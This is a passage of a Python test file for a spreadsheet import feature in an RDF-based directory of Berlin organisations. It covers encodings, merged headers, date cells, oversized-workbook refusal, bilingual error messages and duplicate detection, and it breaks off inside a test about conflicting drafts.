"""Spreadsheets in and out (issue 15): files, mappings, the report per row, duplicates,
idempotence, --sync, one change set with provenance, export-list. Fixtures are made here."""

from __future__ import annotations

import csv
import gc
import json
import os
import select
import shutil
import subprocess
import zipfile
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from xml.sax.saxutils import escape

import pyoxigraph as ox
import pytest
import xlsxwriter

from akteursgraph.changes import submit
from akteursgraph.commit import Writer
from akteursgraph.errors import UsageError
from akteursgraph.importing import (
    list_rows,
    load_mapping,
    plan_import,
    summary,
    write_list,
    write_report,
)
from akteursgraph.importing.outcome import CHANGED, CREATED, DELETED, UNCHANGED, RowReport
from akteursgraph.importing.tables import read_sheets
from akteursgraph.namespaces import AG, AGV, DCTERMS, ORG, RDF_TYPE, SCHEMA, SKOS, XSD
from akteursgraph.store import Change, Store

from .conftest import BIN, dump, run_cli

MAPPINGS = Path(__file__).resolve().parent.parent / "graph" / "data" / "mappings"
LISTS = MAPPINGS.parent / "lists"
ORGS = MAPPINGS / "organisationen.toml"
EXORG = "https://w3id.org/akteursgraph/mitte/example/organisation/"
HEADER = ["Name", "Art", "Gründung", "Bezirk", "Themen", "Sprachen"]


@pytest.fixture
def example(example_store_path: Path) -> Iterator[Store]:
    with Store.open(example_store_path) as opened:
        yield opened


def write_csv(path: Path, rows: list[list[str]], encoding: str = "utf-8") -> Path:
    with path.open("w", encoding=encoding, newline="") as fh:
        csv.writer(fh, delimiter=";").writerows(rows)
    return path


def plan(store: Store, path: Path, mapping: Path = ORGS, **options: object):  # type: ignore[no-untyped-def]
    return plan_import(store, path, load_mapping(mapping), author="tester", **options)  # type: ignore[arg-type]


def values(store: Store, iri: str, prop: str) -> set[str]:
    return {q.object.value for q in store.quads(ox.NamedNode(iri), ox.NamedNode(prop))}


# ---- files --------------------------------------------------------------------------------


def test_a_windows_1252_list_with_title_rows_umlauts_and_excel_serials(
    example: Store, tmp_path: Path
) -> None:
    rows = [
        ["Liste der Vereine (Stand 2025)", "", "", "", "", ""],
        [],
        HEADER,
        ["Förderverein Südstraße e.V.", "e.V.", "44000", "Wedding", "Bildung", "Deutsch, Türkisch"],
        ["", "", "", "", "", ""],
        ["Grüne Brücke Moabit", "Initiative", "03/2019", "Moabit", "Klima", "arab.; AR"],
    ]
    listed = write_csv(tmp_path / "vereine.csv", rows, encoding="cp1252")
    assert "ü".encode("cp1252") in listed.read_bytes()  # really Windows-1252
    result = plan(example, listed)
    assert result.header_row == 3 and result.conforms
    assert [(r.row, r.name, r.action) for r in result.rows] == [
        (4, "Förderverein Südstraße e.V.", CREATED),
        (6, "Grüne Brücke Moabit", CREATED),
    ]
    first, second = result.rows[0].iri, result.rows[1].iri
    assert first.endswith("/organisation/foerderverein-suedstrasse-e-v")  # the forms' rule
    added = {(q.subject.value, q.predicate.value, q.object) for q in result.change.add}
    serial = ox.Literal("2020-06-18", datatype=ox.NamedNode(XSD + "date"))  # Excel's 44000
    month = ox.Literal("2019-03", datatype=ox.NamedNode(XSD + "gYearMonth"))
    assert (first, SCHEMA + "foundingDate", serial) in added
    assert (second, SCHEMA + "foundingDate", month) in added
    assert (first, SCHEMA + "knowsLanguage", ox.Literal("tr")) in added
    languages = {o for s, p, o in added if s == second and p == SCHEMA + "knowsLanguage"}
    assert languages == {ox.Literal("ar")}  # "arab." and "AR" are one language


def test_an_xlsx_with_merged_headers_two_sheets_and_date_cells(
    example: Store, tmp_path: Path
) -> None:
    path = tmp_path / "liste.xlsx"
    book = xlsxwriter.Workbook(str(path))
    book.add_worksheet("Notizen").write_row(0, 0, ["nichts hier"])
    sheet = book.add_worksheet("Organisationen")
    sheet.merge_range(0, 0, 0, 5, "Bestandsaufnahme 2025")
    sheet.merge_range(1, 0, 2, 0, "Name")  # a header over two rows
    sheet.merge_range(1, 1, 1, 2, "Stammdaten")  # a group header over two columns
    sheet.write_row(2, 1, ["Art", "Gründung"])
    sheet.write_row(1, 3, ["Bezirk", "Themen", "Sprachen"])
    day = book.add_format({"num_format": "dd.mm.yyyy"})
    sheet.write_row(3, 0, ["Werkstatt Zukunft Wedding", "Initiative"])
    sheet.write_number(3, 2, 1998)  # a year, as a number
    sheet.write_row(3, 3, ["Wedding", "Bildung", "Deutsch"])
    sheet.write_row(4, 0, ["Lesekreis Tiergarten", "Initiative"])
    sheet.write_datetime(4, 2, __import__("datetime").datetime(2012, 10, 12), day)
    sheet.write_row(4, 3, ["Tiergarten", "Kultur", "Deutsch"])
    book.close()
    assert [s.name for s in read_sheets(path)] == ["Notizen", "Organisationen"]
    result = plan(example, path)
    assert result.sheet == "Organisationen" and result.header_row == 3 and result.conforms
    dates = {
        q.subject.value: q.object
        for q in result.change.add
        if q.predicate.value == SCHEMA + "foundingDate"
    }
    assert sorted(d.value for d in dates.values()) == ["1998", "2012-10-12"]
    with pytest.raises(UsageError, match="No sheet 'Gibt es nicht'"):
        plan(example, path, sheet="Gibt es nicht")


def test_a_day_with_a_time_of_day_gives_the_day_and_says_the_time_was_left_out(
    example: Store, tmp_path: Path
) -> None:
    """Import walk: an XLSX date-time cell (10 May 2024, 14:30) became the day unsaid, where
    the same value as CSV text was refused as no date. Both give the day now, with a note on
    the row naming the time left out; a date-time at midnight (a date Excel wrote as a
    date-time) is a day without a note."""
    import datetime as dt

    book_path = tmp_path / "termine.xlsx"
    book = xlsxwriter.Workbook(str(book_path))
    sheet = book.add_worksheet("Organisationen")
    stamp = book.add_format({"num_format": "dd.mm.yyyy hh:mm"})
    sheet.write_row(0, 0, HEADER)
    sheet.write_row(1, 0, ["Abendschule Wedding (Test)", "Initiative"])
    sheet.write_datetime(1, 2, dt.datetime(2024, 5, 10, 14, 30), stamp)
    sheet.write_row(2, 0, ["Morgenkreis Moabit (Test)", "Initiative"])
    sheet.write_datetime(2, 2, dt.datetime(2012, 10, 12), stamp)
    sheet.write_row(3, 0, ["Mittagstisch Mitte (Test)", "Initiative"])
    sheet.write_number(3, 2, 45422.75)  # an Excel serial: 10 May 2024, 18:00
    book.close()
    listed = write_csv(
        tmp_path / "termine.csv",
        [HEADER, ["Abendschule Wedding (Test)", "Initiative", "10.05.2024 14:30 Uhr"],
         ["Morgenkreis Moabit (Test)", "Initiative", "2012-10-12T00:00:00"]],
    )  # fmt: skip
    for path, rows in ((book_path, 3), (listed, 2)):
        result = plan(example, path)
        assert result.conforms, [r.problems for r in result.rows]
        founded = {
            q.subject.value: q.object.value
            for q in result.change.add
            if q.predicate.value == SCHEMA + "foundingDate"
        }
        evening, morning, *noon = result.rows
        assert [founded[r.iri] for r in result.rows] == [
            "2024-05-10", "2012-10-12", "2024-05-10"
        ][:rows], path  # fmt: skip

        def times(row: RowReport) -> list[str]:
            return [w.en for w in row.warnings if w.en.startswith("Gründung")]

        assert times(evening) == ["Gründung: the time 14:30 is left out (the day is stored)."]
        assert times(morning) == [], path
        assert [w.de for r in noon for w in r.warnings if w.de.startswith("Gründung")] == (
            ["Gründung: die Uhrzeit 18:00 ist nicht übernommen (gespeichert wird der Tag)."]
            if noon
            else []
        )
        said = summary(result)
        assert "Zeile / row 2 (Abendschule Wedding (Test)): Gründung: die Uhrzeit 14:30" in said


#: An ODS cell as `write_ods` takes it: text, a number, a date, None (empty), or
#: `Spanned(text, columns, rows)`, a cell merged over the cells right of and below it.
class Spanned:
    def __init__(self, text: str, columns: int = 1, rows: int = 1) -> None:
        self.text, self.columns, self.rows = text, columns, rows


_ODS_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
)


def _ods_cell(value: object) -> str:
    if value is None:
        return "<table:table-cell/>"
    if value == "covered":  # under or beside a merged cell, as LibreOffice writes it
        return "<table:covered-table-cell/>"
    if isinstance(value, Spanned):
        spans = (f'table:number-columns-spanned="{value.columns}" '
                 f'table:number-rows-spanned="{value.rows}"')  # fmt: skip
        return (f'<table:table-cell {spans} office:value-type="string">'
                f"<text:p>{escape(value.text)}</text:p></table:table-cell>"
                + "<table:covered-table-cell/>" * (value.columns - 1))  # fmt: skip
    if isinstance(value, date):
        return (f'<table:table-cell office:value-type="date" office:date-value="{value}">'
                f"<text:p>{value:%d.%m.%Y}</text:p></table:table-cell>")  # fmt: skip
    if isinstance(value, int | float):
        return (f'<table:table-cell office:value-type="float" office:value="{value}">'
                f"<text:p>{value}</text:p></table:table-cell>")  # fmt: skip
    return (f'<table:table-cell office:value-type="string"><text:p>{escape(str(value))}'
            "</text:p></table:table-cell>")  # fmt: skip


def write_ods(path: Path, sheets: dict[str, list[list[object]]]) -> Path:
    """A real ODS file as LibreOffice lays one out: a zip whose first member, `mimetype`, is
    stored uncompressed, then the manifest and `content.xml` with one table per sheet."""
    tables = "".join(
        f'<table:table table:name="{escape(name)}">'
        + "".join(
            "<table:table-row>" + "".join(_ods_cell(c) for c in row) + "</table:table-row>"
            for row in rows
        )
        + "</table:table>"
        for name, rows in sheets.items()
    )
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {_ODS_NS} '
        'office:version="1.2"><office:body><office:spreadsheet>'
        f"{tables}</office:spreadsheet></office:body></office:document-content>"
    )
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest='
        '"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
        '<manifest:file-entry manifest:full-path="/" manifest:media-type='
        '"application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry '
        'manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'
    )
    with zipfile.ZipFile(path, "w") as ods:
        ods.writestr(
            zipfile.ZipInfo("mimetype"),
            "application/vnd.oasis.opendocument.spreadsheet",
            compress_type=zipfile.ZIP_STORED,
        )
        ods.writestr("META-INF/manifest.xml", manifest, compress_type=zipfile.ZIP_DEFLATED)
        ods.writestr("content.xml", content, compress_type=zipfile.ZIP_DEFLATED)
    return path


def literal(text: str, datatype: str) -> ox.Literal:
    return ox.Literal(text, datatype=ox.NamedNode(XSD + datatype))


@pytest.mark.parametrize(
    ("name", "data", "de", "en"),
    [
        ("liste.xlsx", b"not a workbook", "keine lesbare Excel-Arbeitsmappe (XLSX)",
         "not a readable Excel workbook (XLSX)"),
        ("liste.ods", b"PK\x03\x04broken", "keine lesbare OpenDocument-Tabelle (ODS)",
         "not a readable OpenDocument spreadsheet (ODS)"),
        ("liste.xlsx", b"", "Die Datei ist leer.", "The file is empty."),
    ],
)  # fmt: skip
def test_an_unreadable_workbook_says_what_to_do_not_what_the_reader_library_said(
    tmp_path: Path, name: str, data: bytes, de: str, en: str
) -> None:
    """The office reads what the file should be and how to mend it; the reader library's
    words ("invalid Zip archive: Could not find EOCD") named nothing a person can act on."""
    from akteursgraph.errors import InvalidDataError

    path = tmp_path / name
    path.write_bytes(data)
    with pytest.raises(InvalidDataError) as refused:
        read_sheets(path)
    assert de in refused.value.de and en in refused.value.en
    assert refused.value.where == str(path)
    for words in ("Zip", "EOCD", "calamine"):
        assert words not in refused.value.de + refused.value.en


def test_a_workbook_whose_used_area_is_huge_is_refused_before_it_is_read(
    example_store_path: Path, tmp_path: Path
) -> None:
    """One filled cell at XFD1048576 in a 5 KB workbook: the reader allocated the whole area
    (512 GiB), and the allocator aborted the process, the web server with it (exploratory
    test). It is refused with the sheet, the cell and what to do, before it is read; a list
    of 50 columns is read as ever."""
    from akteursgraph.errors import InvalidDataError

    path = tmp_path / "liste.xlsx"
    book = xlsxwriter.Workbook(str(path))
    sheet = book.add_worksheet("Organisationen")
    sheet.write_row(0, 0, HEADER)
    sheet.write_row(
        1, 0, ["Kiezladen (Test)", "Initiative", "2001", "Wedding", "Bildung", "Deutsch"]
    )
    sheet.write(1048575, 16383, " ")
    book.close()
    with pytest.raises(InvalidDataError) as refused:
        read_sheets(path)
    assert "das Blatt „Organisationen“ reicht bis zur Zelle XFD1048576" in refused.value.de
    assert 'the sheet "Organisationen" reaches cell XFD1048576' in refused.value.en
    assert "delete the empty rows and columns" in refused.value.en
    done = run_cli("import", str(path), "--mapping", str(ORGS), "--dry-run",
                   store=example_store_path)  # fmt: skip
    assert done.returncode == 1 and "XFD1048576" in done.stderr, done.stderr
    # An ODS is measured by its reader as it is opened (it allocates the area too).
    far = ('<table:table-row table:number-rows-repeated="1048570"><table:table-cell/>'
           '</table:table-row><table:table-row><table:table-cell table:number-columns-repeated='
           '"16380"/><table:table-cell office:value-type="string"><text:p>x</text:p>'
           "</table:table-cell></table:table-row>")  # fmt: skip
    ods = write_ods(tmp_path / "liste.ods", {"Organisationen": [HEADER]})
    with zipfile.ZipFile(ods) as old:
        parts = {n: old.read(n) for n in old.namelist()}
    parts["content.xml"] = parts["content.xml"].replace(
        b"</table:table>", far.encode() + b"</table:table>"
    )
    with zipfile.ZipFile(ods, "w") as new:
        for n, data in parts.items():
            new.writestr(
                n,
                data,
                compress_type=zipfile.ZIP_STORED if n == "mimetype" else zipfile.ZIP_DEFLATED,
            )
    with pytest.raises(InvalidDataError) as refused:
        read_sheets(ods)
    assert "ein Blatt reicht über mehr als 5.000.000 Zellen" in refused.value.de
    wide = tmp_path / "breit.xlsx"
    book = xlsxwriter.Workbook(str(wide))
    sheet = book.add_worksheet("Organisationen")
    sheet.write_row(0, 0, [*HEADER, *(f"Spalte {n}" for n in range(44))])
    sheet.write(2000, 49, "x")
    book.close()
    (read,) = read_sheets(wide)
    assert len(read.rows) == 2001 and read.rows[2000][49] == "x"


def test_an_ods_with_two_sheets_a_title_row_an_empty_row_a_date_cell_and_a_year(
    example: Store, tmp_path: Path
) -> None:
    """An ODS file as LibreOffice writes one, header of two rows with merged cells.

    python-calamine gives no merged ranges for ODS, so (unlike in XLSX) a merged cell's value
    stands only in its first cell, the covered ones are empty (docs/import.md, "Header row").
    A cell merged over both header rows still names its column, since an empty cell of the
    lower row takes the one above."""
    path = write_ods(tmp_path / "liste.ods", {
        "Notizen": [["nichts hier"]],
        "Organisationen": [
            [Spanned("Bestandsaufnahme 2025", columns=6)],
            [Spanned("Name", rows=2), Spanned("Stammdaten", columns=2),
             "Bezirk", "Themen", "Sprachen"],
            ["covered", "Art", "Gründung"],
            [],
            ["Werkstatt Zukunft Wedding", "Initiative", 1998, "Wedding", "Bildung", "Deutsch"],
            ["Lesekreis Tiergarten", "e.V.", date(2012, 10, 12), "Tiergarten", "Kultur, Klima",
             "dt."],
        ],
    })  # fmt: skip
    with zipfile.ZipFile(path) as ods:
        first = ods.infolist()[0]
        assert (first.filename, first.compress_type) == ("mimetype", zipfile.ZIP_STORED)
    notes, sheet = read_sheets(path)
    assert (notes.name, sheet.name) == ("Notizen", "Organisationen")
    assert sheet.rows[0][:2] == ["Bestandsaufnahme 2025", None]  # no merged ranges in ODS
    assert sheet.rows[1][:3] == ["Name", "Stammdaten", None]
    assert sheet.rows[2][:3] == [None, "Art", "Gründung"]
    assert sheet.rows[4][2] == 1998 and sheet.rows[5][2] == date(2012, 10, 12)

    result = plan(example, path)
    assert result.sheet == "Organisationen" and result.header_row == 3 and result.conforms
    assert [(r.row, r.name, r.action) for r in result.rows] == [
        (5, "Werkstatt Zukunft Wedding", CREATED),
        (6, "Lesekreis Tiergarten", CREATED),
    ]  # the empty row 4 skipped, the spreadsheet's own numbers kept
    werkstatt, lesekreis = result.rows[0].iri, result.rows[1].iri
    added = {(q.subject.value, q.predicate.value, q.object) for q in result.change.add}
    assert (werkstatt, SCHEMA + "foundingDate", literal("1998", "gYear")) in added
    assert (lesekreis, SCHEMA + "foundingDate", literal("2012-10-12", "date")) in added
    assert (
        lesekreis,
        SKOS + "prefLabel",
        ox.Literal("Lesekreis Tiergarten", language="de"),
    ) in added
    kinds = {s: o.value for s, p, o in added if p == ORG + "classification"}
    assert kinds == {
        werkstatt: AGV + "organisation-kind/initiative",
        lesekreis: AGV + "organisation-kind/registered-association",
    }
    topics = {o.value for s, p, o in added if s == lesekreis and p == DCTERMS + "subject"}
    assert AGV + "topic/climate-justice" in topics and len(topics) == 2
    assert (lesekreis, SCHEMA + "knowsLanguage", ox.Literal("de")) in added


@pytest.mark.parametrize("separator", [";", ",", "\t"])
def test_a_doubled_quote_is_read_as_excel_writes_it_wherever_it_stands(
    tmp_path: Path, separator: str
) -> None:
    """Exploratory test: with 80 plain rows first, the quoting was sniffed from lines without
    a quote in them, and 'Verein ""Brücke"" Moabit' was read as 'Verein "Brücke"" Moabit"'."""
    listed = tmp_path / "orgs.csv"
    lines = [separator.join(["Name", "Art", "Beschreibung"])]
    lines += [separator.join([f"Org {n}", "e.V.", f"Text {n}"]) for n in range(80)]
    lines.append(separator.join(['"Verein ""Brücke"" Moabit"', "e.V.",
                                 '"Er sagte ""Hallo"", dann ging er"']))  # fmt: skip
    listed.write_text("\n".join(lines) + "\n", encoding="utf-8")
    assert read_sheets(listed)[0].rows[-1] == [
        'Verein "Brücke" Moabit',
        "e.V.",
        'Er sagte "Hallo", dann ging er',
    ]


def test_an_iri_cell_that_is_no_address_or_names_another_kind_is_a_rows_problem(
    example: Store, tmp_path: Path
) -> None:
    """Exploratory test: "berlin-postkolonial" in the IRI column ended the check ("unerwarteter
    Fehler: ValueError", HTTP 500 in the workspace), and a place's IRI in the organisations'
    list was taken, giving the place an organisation's kind. Both are the row's problem now,
    with the column; a right IRI stays the row's key."""
    place = next(q.subject.value for q in example.quads(None, ox.NamedNode(RDF_TYPE))
                 if "/place/" in q.subject.value)  # fmt: skip
    org = next(q.subject.value for q in example.quads(None, ox.NamedNode(RDF_TYPE),
               ox.NamedNode(ORG + "Organization")))  # fmt: skip
    listed = write_csv(tmp_path / "iri.csv", [
        ["IRI", *HEADER],
        ["berlin-postkolonial", "Berlin Postkolonial", "e.V.", "", "", "", ""],
        [place, "Wedding", "Initiative", "", "", "", ""],
        [org, "Bekannt", "e.V.", "", "", "", ""],
    ])  # fmt: skip
    result = plan(example, listed)
    assert not result.conforms
    first, second, third = result.rows
    assert [p.en for p in first.problems] == [
        "IRI: 'berlin-postkolonial' is no complete address (IRI, https://…); copy the address "
        "from an exported list, or leave the cell empty for a new entry."
    ]
    assert [p.de for p in second.problems] == [
        f"IRI: „{place}“ ist kein Eintrag der Art org:Organization, die diese Liste einliest; "
        "bitte die Adresse prüfen."
    ]
    assert not third.problems and third.iri == org
    assert not any(q.subject.value == place for q in result.change.add)


@pytest.mark.parametrize(
    "data",
    [
        "Name;Art\nMüller Verein Süd;e.V.\n".encode() + "Café Eßbar;Initiative\n".encode("cp1252"),
        "Name;Art\nMüller Verein Süd;e.V.\nCafé Eßbar;Initiative\n".encode("utf-16"),
    ],
    ids=["utf-8-with-a-windows-1252-row", "utf-16"],
)
def test_a_list_of_mixed_encodings_or_in_utf_16_reads_right(tmp_path: Path, data: bytes) -> None:
    """Exploratory test: a UTF-8 list with one row pasted from a Windows-1252 file was read whole
    as Windows-1252 ("MÃ¼ller Verein SÃ¼d", and an IRI made of it); Excel's "Unicode text"
    (UTF-16) was said to lack its header row."""
    listed = tmp_path / "liste.csv"
    listed.write_bytes(data)
    assert read_sheets(listed)[0].rows == [
        ["Name", "Art"],
        ["Müller Verein Süd", "e.V."],
        ["Café Eßbar", "Initiative"],
    ]


def test_a_csv_the_reader_cannot_read_is_said_in_both_languages_with_its_line(
    tmp_path: Path,
) -> None:
    """Exploratory test: "CSV nicht lesbar: field larger than field limit (131072)": the
    reader's English words in the German message, and no line."""
    from akteursgraph.errors import InvalidDataError

    listed = tmp_path / "lang.csv"
    listed.write_text("Name;Art;Beschreibung\nA;e.V.;" + "x" * 140_000 + "\n", encoding="utf-8")
    with pytest.raises(InvalidDataError) as refused:
        read_sheets(listed)
    assert refused.value.de == (
        "CSV nicht lesbar in Zeile 2: eine Zelle ist länger als 131.072 Zeichen; ist ein "
        "Anführungszeichen nicht geschlossen?"
    )
    assert "in line 2: a cell is longer than 131,072 characters" in refused.value.en


def test_a_mapping_that_is_no_toml_says_where_in_both_languages(tmp_path: Path) -> None:
    """Exploratory test: the TOML reader's English words stood alone in the German message."""
    broken = tmp_path / "zuordnung.toml"
    broken.write_text('[list]\nname "x"\n', encoding="utf-8")
    with pytest.raises(UsageError) as refused:
        load_mapping(broken)
    assert refused.value.de.startswith(
        "Zuordnungsdatei nicht lesbar, TOML-Fehler in Zeile 2, Spalte 6 (Meldung des TOML-Lesers:"
    )
    assert refused.value.en.startswith(
        "Mapping file not readable, TOML mistake at line 2, column 6:"
    )


@pytest.mark.parametrize(
    ("wrong", "right", "what"),
    [
        ('property = "schema:foundingDate"', 'property = "schema:gruendung"', "property"),
        ('class = "org:Organization"', 'class = "org:Organisation"', "class"),
    ],
)
def test_a_mapping_naming_a_term_the_vocabulary_lacks_is_refused_with_its_place(
    tmp_path: Path, wrong: str, right: str, what: str
) -> None:
    """Import walk: an own mapping with a misspelt property ("schema:gruendung") put the
    founding years into the public data under a property nobody knows, shown on no page."""
    own = tmp_path / "eigene.toml"
    own.write_text(ORGS.read_text(encoding="utf-8").replace(wrong, right, 1), encoding="utf-8")
    shutil.copy(ORGS.parent / "languages.toml", tmp_path)  # the value list beside it
    assert own.read_text(encoding="utf-8") != ORGS.read_text(encoding="utf-8")
    with pytest.raises(UsageError) as refused:
        load_mapping(own)
    term = right.split('"')[1]
    assert refused.value.en.startswith(f"Mapping file: '{term}' is no {what} of the vocabulary")
    assert f"„{term}“ ist keine" in refused.value.de
    assert refused.value.where and str(own) in refused.value.where
    load_mapping(ORGS)  # the shipped one passes


def test_a_name_without_letters_or_digits_is_a_rows_problem(example: Store, tmp_path: Path) -> None:
    """Exploratory test: a row named "-" made an organisation "-", and "?" was said to be
    "the same entry as row 4 („-“)"."""
    listed = write_csv(tmp_path / "platzhalter.csv", [
        HEADER, ["-", "e.V.", "", "", "", ""], ["?", "e.V.", "", "", "", ""],
    ])  # fmt: skip
    result = plan(example, listed)
    assert not result.conforms and not result.change.add
    assert [[p.en for p in r.problems] for r in result.rows] == [
        ["'-' is no name (no letters or digits); please fill in the name or delete the row."],
        ["'?' is no name (no letters or digits); please fill in the name or delete the row."],
    ]


def test_a_linked_person_without_consent_is_the_problem_of_the_row_that_links(
    example: Store, tmp_path: Path
) -> None:
    """Exploratory walks: an event whose speaker has no consent was refused with the
    person's IRI alone as a problem "of the file", and "0 invalid" rows. It is the row's
    problem now, with the column that links and the person's name."""
    person = next(
        q.subject
        for q in example.quads(None, ox.NamedNode(AG + "publicationConsent"),
                               ox.NamedNode("https://w3id.org/dpv#ConsentRefused"))
    )  # fmt: skip
    name = _german_label_of(example, person)
    listed = write_csv(tmp_path / "abende.csv", [
        ["Titel", "Datum", "Veranstalter", "Ort", "Referent*innen", "Themen", "Sprachen"],
        ["Abend mit Gast (Test)", "12.10.2025", "Dachnetzwerk Globales Mitte e.V. (Beispiel)",
         "Wedding", name, "Kolonialgeschichte", "Deutsch"],
    ])  # fmt: skip
    result = plan(example, listed, MAPPINGS / "veranstaltungen.toml")
    assert not result.conforms and not result.problems
    (row,) = result.rows
    assert result.counts()["invalid"] == 1
    assert any(
        p.de.startswith(f"Referent*innen: Eintrag „{name}“ <{person.value}>: Eine lebende Person")
        for p in row.problems
    ), [p.de for p in row.problems]


def _german_label_of(store: Store, node: ox.NamedNode) -> str:
    return next(q.object.value for q in store.quads(node, ox.NamedNode(SKOS + "prefLabel"))
                if q.object.language == "de")  # fmt: skip


def test_a_comma_separated_csv_with_quoted_commas(example: Store, tmp_path: Path) -> None:
    """Excel on an English Windows separates by commas and quotes cells that hold one."""
    listed = tmp_path / "orgs.csv"
    listed.write_text(
        "Name,Art,Gründung,Bezirk,Themen,Sprachen\n"
        '"Eine Welt, ein Kiez e.V.",e.V.,2001,Wedding,"Bildung, Klima","Deutsch, Englisch"\n'
        'Kiezküche Moabit,"Initiative, MO",2015,Moabit,Migration,Arabisch\n',
        encoding="utf-8",
    )
    sheet = read_sheets(listed)[0]
    assert sheet.rows[1] == [
        "Eine Welt, ein Kiez e.V.", "e.V.", "2001", "Wedding", "Bildung, Klima",
        "Deutsch, Englisch",
    ]  # fmt: skip
    result = plan(example, listed)
    assert result.header_row == 1 and result.conforms
    assert [r.name for r in result.rows] == ["Eine Welt, ein Kiez e.V.", "Kiezküche Moabit"]
    welt, kueche = (r.iri for r in result.rows)
    added = {(q.subject.value, q.predicate.value, q.object) for q in result.change.add}
    kinds = {(s, o.value) for s, p, o in added if p == ORG + "classification"}
    assert kinds == {
        (welt, AGV + "organisation-kind/registered-association"),
        (kueche, AGV + "organisation-kind/initiative"),
        (kueche, AGV + "organisation-kind/migrant-organisation"),
    }  # "Initiative, MO" within quotes: one cell, two values
    languages = {o.value for s, p, o in added if s == welt and p == SCHEMA + "knowsLanguage"}
    assert languages == {"de", "en"}


def test_a_cell_of_several_lines_is_stored_with_the_stores_line_breaks(
    example: Store, tmp_path: Path
) -> None:
    """A quoted cell with CRLF line breaks kept them in the store; the same text from an
    edit form, with LF, was then a change (re-check walk)."""
    listed = tmp_path / "orgs.csv"
    listed.write_bytes(
        b'Name,Art,Beschreibung\r\nZeilenverein,e.V.,"Erste Zeile\r\nZweite Zeile"\r\n'
    )
    result = plan(example, listed)
    texts = [q.object.value for q in result.change.add if "Erste" in q.object.value]
    assert texts == ["Erste Zeile\nZweite Zeile"], texts


def test_synonyms_become_their_concepts_dates_as_text_their_types_and_names_their_tag(
    example: Store, tmp_path: Path
) -> None:
    rows = [
        HEADER,
        ["Umweltgruppe Wedding (Test)", "eV", "12.10.2025", "Wedding", "Umwelt", "Deutsch"],
        ["Schulprojekt Moabit (Test)", "gGmbH", "1998", "Moabit", "Schule; postkolonial",
         "Deutsch"],
        ["Selbstorganisation Mitte (Test)", "Migrantenselbstorganisation", "03/2019", "Mitte",
         "Migration und Entwicklung", "Deutsch"],
    ]  # fmt: skip
    result = plan(example, write_csv(tmp_path / "werte.csv", rows))
    assert result.conforms, [r.problems for r in result.rows]
    umwelt, schule, selbst = (r.iri for r in result.rows)
    added = {(q.subject.value, q.predicate.value, q.object) for q in result.change.add}

    def objects(subject: str, prop: str) -> set[ox.Term]:
        return {o for s, p, o in added if s == subject and p == prop}

    concept = AGV + "organisation-kind/"
    assert objects(umwelt, ORG + "classification") == {
        ox.NamedNode(concept + "registered-association")}  # fmt: skip
    assert objects(schule, ORG + "classification") == {
        ox.NamedNode(concept + "non-profit-company")}  # fmt: skip
    assert objects(selbst, ORG + "classification") == {
        ox.NamedNode(concept + "migrant-organisation")}  # fmt: skip
    assert objects(umwelt, DCTERMS + "subject") == {ox.NamedNode(AGV + "topic/climate-justice")}
    topics = {ox.NamedNode(AGV + "topic/" + t) for t in ("education", "colonial-history")}
    assert objects(schule, DCTERMS + "subject") == topics
    assert objects(selbst, DCTERMS + "subject") == {
        ox.NamedNode(AGV + "topic/migration-development")}  # fmt: skip
    assert objects(umwelt, SCHEMA + "foundingDate") == {literal("2025-10-12", "date")}
    assert objects(schule, SCHEMA + "foundingDate") == {literal("1998", "gYear")}
    assert objects(selbst, SCHEMA + "foundingDate") == {literal("2019-03", "gYearMonth")}
    for row in result.rows:
        assert objects(row.iri, SKOS + "prefLabel") == {ox.Literal(row.name, language="de")}


def test_a_list_without_the_required_columns_is_refused_with_their_names(
    example: Store, tmp_path: Path
) -> None:
    listed = write_csv(tmp_path / "x.csv", [["Titel", "Ort"], ["a", "b"]])
    with pytest.raises(UsageError, match="lack the columns Name, Art"):
        plan(example, listed)


# ---- duplicates -----------------------------------------------------------------------------


def test_other_spellings_of_an_existing_organisation_change_it_rather_than_copy_it(
    example: Store, tmp_path: Path
) -> None:
    rows = [
        HEADER,
        # The example's "Dachnetzwerk Globales Mitte e.V. (Beispiel)" without "e.V.", its
        # "Anatolisches Nachbarschaftshaus Moabit e.V." in another word order with "e. V.",
        # "Südasien-Forum" with the umlaut written out, and one misspelt.
        ["Dachnetzwerk Globales Mitte (Beispiel)", "Netzwerk", "", "", "", ""],
        ["Nachbarschaftshaus Anatolisches Moabit e. V. (Beispiel)", "e.V.", "", "", "", ""],
        ["Suedasien-Forum Mitte e.V. (Beispiel)", "e.V.", "", "", "", ""],
        ["Dachnetzwerk Globales Mite (Beispiel)", "Netzwerk", "", "", "", ""],
        ["Dachnetzwerk Globales Mitte e.V. (Beispiel)", "Netzwerk", "", "", "", ""],
    ]
    result = plan(example, write_csv(tmp_path / "d.csv", rows))
    by_row = {r.row: r for r in result.rows}
    assert by_row[2].iri == EXORG + "dachnetzwerk-globales-mitte" and by_row[2].action != CREATED
    assert by_row[3].iri == EXORG + "anatolisches-nachbarschaftshaus-moabit"
    assert by_row[4].iri == EXORG + "suedasien-forum-mitte"
    # The list's spelling does not replace the entity's name.
    assert "skos:prefLabel" not in by_row[2].properties
    typo = by_row[5]
    assert typo.action == CREATED and typo.conforms
    assert [c.iri for c in typo.duplicates][:1] == [EXORG + "dachnetzwerk-globales-mitte"]
    same = by_row[6]  # the same organisation as row 2, once more
    assert not same.conforms and "Zeile 2" in same.problems[0].de
    assert not result.conforms


def test_a_row_that_changes_an_entry_with_a_waiting_draft_is_a_problem(
    example: Store, tmp_path: Path
) -> None:
    """QA: an editor's draft changed an organisation's founding date; a list changing the
    same organisation passed its preview and became a second draft, which conflicted only
    when the reviewer published it (in technical words), and the list was rejected whole."""
    from akteursgraph.changes import ChangeMeta
    from akteursgraph.changes.model import ORIGIN_FORM

    iri = EXORG + "dachnetzwerk-globales-mitte"
    founded = ox.Quad(
        ox.NamedNode(iri),
        ox.NamedNode(SCHEMA + "foundingDate"),
        ox.Literal("2001", datatype=ox.NamedNode(XSD + "gYear")),
        ox.NamedNode("https://w3id.org/akteursgraph/mitte/graph/public/example"),
    )
